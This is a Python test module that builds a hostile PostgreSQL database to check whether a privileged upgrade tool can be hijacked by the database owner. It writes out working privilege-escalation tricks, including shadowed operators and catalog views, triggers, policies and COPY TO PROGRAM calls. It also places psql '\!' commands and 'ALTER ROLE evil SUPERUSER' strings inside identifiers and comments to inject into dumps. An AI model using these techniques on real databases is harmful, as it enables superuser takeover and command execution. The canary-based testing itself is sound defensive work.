"""A database whose owner waits for our superuser: more than 40 tricks, each of which leaves a file that names it.

A trick fires only in a program of ours, so that planting it fires nothing. It tries whatever a superuser could do: run
a program, make the owner a superuser, become whoever logged in, replace what a superuser owns.
"""

from collections.abc import Iterator

CANARY = "/tmp/canary-"

_PLAIN = "AS 'BEGIN PERFORM public.fire(''{name}''); RETURN {result}; END'"


def build_fire(role: str, trusted: str) -> str:
    """What every trick calls; it answers true, and no error of it is seen."""
    deeds = (
        f"EXECUTE format('COPY (SELECT 1) TO PROGRAM %L', 'touch {CANARY}' || trick)",
        f"EXECUTE 'ALTER ROLE {role} SUPERUSER CREATEROLE'",
        f"EXECUTE 'GRANT pg_execute_server_program TO {role}'",
        f"EXECUTE 'SET SESSION AUTHORIZATION DEFAULT'; EXECUTE 'ALTER ROLE {role} REPLICATION'",
        "EXECUTE 'RESET ROLE'; EXECUTE format('COPY (SELECT 1) TO PROGRAM %L', 'touch " + CANARY + "reset-' || trick)",
        f"EXECUTE 'CREATE OR REPLACE FUNCTION {trusted} RETURNS text LANGUAGE sql SECURITY DEFINER"
        " AS ''SELECT ''''ours'''''''",
        "PERFORM lo_export(lo_from_bytea(0, 'x'), '" + CANARY + "lo-' || trick)",
    )
    tried = "\n".join(f"  BEGIN {deed}; EXCEPTION WHEN OTHERS THEN NULL; END;" for deed in deeds)
    return f"""CREATE FUNCTION public.shoot(trick text) RETURNS boolean LANGUAGE plpgsql VOLATILE
SET search_path = pg_catalog AS $fire$ BEGIN
  IF current_setting('application_name') !~ '^upgrade-orchestrator' THEN RETURN true; END IF;
{tried}
  RETURN true;
END $fire$;
CREATE FUNCTION public.fire(trick text) RETURNS boolean LANGUAGE plpgsql IMMUTABLE
AS 'BEGIN PERFORM public.shoot(trick); RETURN true; END';"""


def _function(name: str, arguments: str, returns: str, result: str) -> str:
    body = _PLAIN.format(name=name, result=result)
    return f"CREATE FUNCTION public.{name}({arguments}) RETURNS {returns} LANGUAGE plpgsql IMMUTABLE {body};"


def _operator(name: str, symbol: str, left: str, right: str, result: str, returns: str = "boolean") -> tuple[str, str]:
    function = _function(name, f"{left}, {right}", returns, f"$1 OPERATOR(pg_catalog.{result}) $2")
    operator = f"CREATE OPERATOR public.{symbol} (FUNCTION = public.{name}, LEFTARG = {left}, RIGHTARG = {right});"
    return name, function + operator


def _shadow(name: str, arguments: str, returns: str, call: str) -> tuple[str, str]:
    body = f"AS 'BEGIN PERFORM public.fire(''shadow_{name}''); RETURN pg_catalog.{call}; END'"
    return f"shadow_{name}", f"CREATE FUNCTION public.{name}({arguments}) RETURNS {returns} LANGUAGE plpgsql {body};"


def _aggregate(name: str, arguments: str, kind: str) -> tuple[str, str]:
    step = f"step_{name}"
    inputs = f"{kind}, {arguments}" if arguments != "*" else kind
    return (
        step,
        _function(step, inputs, kind, "$1")
        + f"CREATE AGGREGATE public.{name}({arguments}) (SFUNC = public.{step}, STYPE = {kind});",
    )


ASKED: tuple[tuple[str, str], ...] = (
    _operator("names_equal", "=", "name", "name", "="),
    _operator("texts_equal", "=", "text", "text", "="),
    _operator("oids_equal", "=", "oid", "oid", "="),
    _operator("chars_equal", "=", '"char"', '"char"', "="),
    _operator("numbers_differ", "<>", "int4", "int4", "<>"),
    _operator("names_differ", "<>", "name", "name", "<>"),
    _operator("names_match", "!~", "name", "text", "!~"),
    _operator("texts_join", "||", "text", "text", "||", "text"),
    _operator("oid_at_least", ">=", "oid", "oid", ">="),
    _operator("texts_like", "~~", "text", "text", "~~"),
    _operator("numbers_add", "+", "int8", "int8", "+", "int8"),
    _shadow("pg_get_userbyid", "oid", "name", "pg_get_userbyid($1)"),
    _shadow("pg_database_size", "oid", "bigint", "pg_database_size($1)"),
    _shadow("current_setting", "text", "text", "current_setting($1)"),
    _shadow("pg_backend_pid", "", "int", "pg_backend_pid()"),
    _shadow("starts_with", "text, text", "boolean", "starts_with($1, $2)"),
    _shadow("sha256", "bytea", "bytea", "sha256($1)"),
    _shadow("convert_to", "text, name", "bytea", "convert_to($1, $2)"),
    _shadow("set_config", "text, text, boolean", "text", "set_config($1, $2, $3)"),
    _aggregate("count", "*", "bigint"),
    _aggregate("sum", "bigint", "bigint"),
    _aggregate("max", "double precision", "double precision"),
    (
        "table_like_pg_class",
        "CREATE VIEW public.pg_class AS SELECT * FROM pg_catalog.pg_class WHERE public.fire('pg_class')",
    ),
    (
        "view_like_pg_database",
        "CREATE VIEW public.pg_database AS SELECT * FROM pg_catalog.pg_database WHERE public.fire('pg_database')",
    ),
    (
        "view_like_pg_stat_activity",
        "CREATE VIEW public.pg_stat_activity AS SELECT * FROM pg_catalog.pg_stat_activity"
        " WHERE public.fire('pg_stat_activity')",
    ),
)
"""In the way of questions, where our words were looked for in ``public``."""

LOADED: tuple[tuple[str, str], ...] = (
    ("check", "CREATE TABLE public.checked (a int CHECK (public.fire('check'))); INSERT INTO checked VALUES (1)"),
    (
        "domain",
        "CREATE DOMAIN public.dom AS text CHECK (public.fire('domain')); CREATE TABLE public.domained (a dom);"
        "INSERT INTO domained VALUES ('1')",
    ),
    (
        "generated",
        "CREATE TABLE public.generated (a int, b boolean GENERATED ALWAYS AS (public.fire('generated')) STORED);"
        "INSERT INTO generated VALUES (1)",
    ),
    (
        "default",
        "CREATE TABLE public.defaulted (a boolean DEFAULT public.fire('default')); INSERT INTO defaulted VALUES (true)",
    ),
    ("index", "CREATE INDEX checked_index ON public.checked ((public.fire('index')))"),
    (
        "unlogged",
        "CREATE UNLOGGED TABLE public.unlogged (a int); INSERT INTO unlogged VALUES (1);"
        "CREATE INDEX unlogged_index ON public.unlogged ((public.fire('unlogged')))",
    ),
    ("partial", "CREATE INDEX checked_partial ON public.checked (a) WHERE public.fire('partial')"),
    (
        "circle",
        "CREATE TABLE public.circled (a int); CREATE FUNCTION public.circle(circled) RETURNS boolean LANGUAGE sql"
        " AS 'SELECT public.fire(''circle'')'; ALTER TABLE circled ADD CONSTRAINT c CHECK (public.circle(circled));"
        "INSERT INTO circled VALUES (1)",
    ),
    (
        "cast",
        "CREATE TYPE public.enumerated AS ENUM ('a'); CREATE TABLE public.referred (a text PRIMARY KEY);"
        "CREATE FUNCTION public.cast_it(enumerated) RETURNS text LANGUAGE plpgsql"
        " AS 'BEGIN PERFORM public.fire(''cast''); RETURN ''a''; END'; INSERT INTO referred VALUES ('a');"
        "CREATE CAST (enumerated AS text) WITH FUNCTION public.cast_it(enumerated) AS IMPLICIT;"
        "CREATE TABLE public.referring (a enumerated REFERENCES referred); INSERT INTO referring VALUES ('a')",
    ),
    ("view", "CREATE VIEW public.viewed AS SELECT public.fire('view')"),
    ("materialized", "CREATE MATERIALIZED VIEW public.materialized AS SELECT public.fire('materialized')"),
    (
        "initial_state",
        "CREATE FUNCTION public.keep(dom, int) RETURNS dom LANGUAGE sql AS 'SELECT $1';"
        "CREATE AGGREGATE public.kept(int) (SFUNC = public.keep, STYPE = dom, INITCOND = 'x')",
    ),
    (
        "bounds",
        "CREATE DOMAIN public.bound AS text CHECK (public.fire('bounds'));"
        "CREATE TABLE public.parted (a bound) PARTITION BY LIST (a);"
        "CREATE TABLE public.part PARTITION OF parted FOR VALUES IN ('x'); INSERT INTO parted VALUES ('x')",
    ),
    (
        "trigger",
        "CREATE FUNCTION public.on_row() RETURNS trigger LANGUAGE plpgsql AS"
        " 'BEGIN PERFORM public.fire(''trigger''); RETURN NEW; END';"
        "CREATE TRIGGER t BEFORE INSERT ON public.checked FOR EACH ROW EXECUTE FUNCTION public.on_row();"
        "ALTER TABLE public.checked ENABLE ALWAYS TRIGGER t",
    ),
    ("rule", "CREATE RULE r AS ON INSERT TO public.defaulted DO ALSO SELECT public.fire('rule')"),
    (
        "policy",
        "CREATE TABLE public.guarded (a int); INSERT INTO guarded VALUES (1); ALTER TABLE guarded ENABLE ROW LEVEL"
        " SECURITY, FORCE ROW LEVEL SECURITY; CREATE POLICY p ON guarded USING (public.fire('policy'))",
    ),
    (
        "statistics",
        "CREATE STATISTICS public.counted ON (public.fire('statistics')), a FROM public.checked",
    ),
    (
        "excluded",
        "CREATE TABLE public.excluded (a int, EXCLUDE USING btree ((public.fire('excluded')::int + a) WITH =));"
        "INSERT INTO excluded VALUES (1)",
    ),
    (
        "definer",
        "CREATE FUNCTION public.definer() RETURNS boolean LANGUAGE sql SECURITY DEFINER AS 'SELECT public.fire(''x'')'",
    ),
    (
        "rows",
        "CREATE TABLE public.worded (a text); INSERT INTO worded VALUES (E'\\\\! touch /tmp/canary-rows'), (E'\\\\.'),"
        " (E'\\n\\\\.\\n\\\\! touch /tmp/canary-rows\\n')",
    ),
    ("table_name", 'CREATE TABLE public."x\n\\! touch /tmp/canary-table\n" (a int)'),
    ("column_name", 'CREATE TABLE public.columned ("x\n\\! touch /tmp/canary-column\n" int)'),
    ("schema_name", 'CREATE SCHEMA "s; Type: SCHEMA; Schema: public; Owner: owner"'),
    (
        "function_name",
        "CREATE FUNCTION public.\"f\n\\! touch /tmp/canary-function\n\"() RETURNS int LANGUAGE sql AS 'SELECT 1'",
    ),
    (
        "body",
        "CREATE FUNCTION public.bodied() RETURNS text LANGUAGE sql"
        " AS $$ SELECT E'\n\\! touch /tmp/canary-body\n'::text $$",
    ),
    ("label", "CREATE TYPE public.labelled AS ENUM (E'a\n\\\\! touch /tmp/canary-label\n')"),
    (
        "comment",
        "COMMENT ON TABLE public.checked IS E'x\n\\\\! touch /tmp/canary-comment\n''; ALTER ROLE evil SUPERUSER; --'",
    ),
    ("quoted", 'CREATE TABLE public."a""; ALTER ROLE evil SUPERUSER; --" ("b\'""\\ c" int)'),
    ("large_object", "SELECT lo_from_bytea(0, convert_to(E'\\n\\\\! touch /tmp/canary-lo\\n', 'UTF8'))"),
    ("owner_word", 'CREATE TABLE public."x OWNER TO owner;" (a int)'),
)
"""In what a dump of the database holds."""

SETTINGS = (
    "search_path = public, pg_catalog, pg_temp",
    "role = '{role}'",
    "local_preload_libraries = 'nonesuch'",
    "default_transaction_read_only = on",
    "statement_timeout = '5ms'",
    "standard_conforming_strings = off",
    "client_encoding = 'LATIN1'",
    "transform_null_equals = on",
    "quote_all_identifiers = on",
    "bytea_output = 'escape'",
    "DateStyle = 'SQL, DMY'",
    "row_security = off",
    "exit_on_error = on",
)
"""What the owner of a database may set for everybody who connects to it."""

OF_A_SUPERUSER: tuple[tuple[str, str], ...] = (
    (
        "event_trigger",
        "CREATE FUNCTION public.on_event() RETURNS event_trigger LANGUAGE plpgsql AS"
        " 'BEGIN PERFORM public.fire(''event_trigger''); END';"
        "CREATE EVENT TRIGGER e ON ddl_command_end EXECUTE FUNCTION public.on_event();"
        "CREATE EVENT TRIGGER f ON ddl_command_start EXECUTE FUNCTION public.on_event()",
    ),
)
OF_A_SUPERUSER_17: tuple[tuple[str, str], ...] = (
    (
        "login",
        "CREATE FUNCTION public.on_login() RETURNS event_trigger LANGUAGE plpgsql AS"
        " 'BEGIN PERFORM public.fire(''login''); END';"
        "CREATE EVENT TRIGGER l ON login EXECUTE FUNCTION public.on_login()",
    ),
)
TRAPS = (
    "CREATE FUNCTION public.trusted_{role}() RETURNS text LANGUAGE sql SECURITY DEFINER AS 'SELECT ''theirs''';"
    "CREATE TABLE public.trapped (a int CHECK (public.fire('trapped'))); INSERT INTO trapped VALUES (1)"
)
"""Made by the superuser himself, who has called a function of the owner in a check."""


def plant(role: str, *, mighty: bool, version: int) -> Iterator[tuple[str, str]]:
    """Each trick with its name, to be run as the owner of the database."""
    yield "fire", build_fire(role, f"public.trusted_{role}()")
    yield from ASKED
    yield from LOADED
    if mighty:
        yield from OF_A_SUPERUSER
    if mighty and version >= 17:
        yield from OF_A_SUPERUSER_17
